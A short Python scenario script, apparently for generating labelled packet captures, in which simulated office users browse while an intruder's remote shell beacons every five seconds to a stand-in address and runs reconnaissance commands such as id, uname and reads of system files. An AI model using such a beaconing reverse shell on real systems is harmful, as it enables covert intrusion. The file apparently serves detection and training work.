# SPDX-License-Identifier: Apache-2.0
"""A shell calls a bare address every 5 s until somebody answers there, and types commands."""
import intruders
import people

SECONDS = 240
CAPTURE = "capture.pcap.zst"
HOME = "203.0.113.166"
ADDRESSES = [HOME]
COMMANDS = ["id", "uname -s", "seq 1 200", "head -c 900 /etc/services", "echo ready", "seq 200 300",
            "tail -c 700 /etc/protocols", "date -u +%Y", "exit"]


def play(office):
    people.arrive(office)
    people.ordinary(office, SECONDS - 30, browsing_pause=120)
    office.spawn(intruders.remote_shell, "cleo", HOME, 8531, 20, 110, COMMANDS)
    office.until(SECONDS)
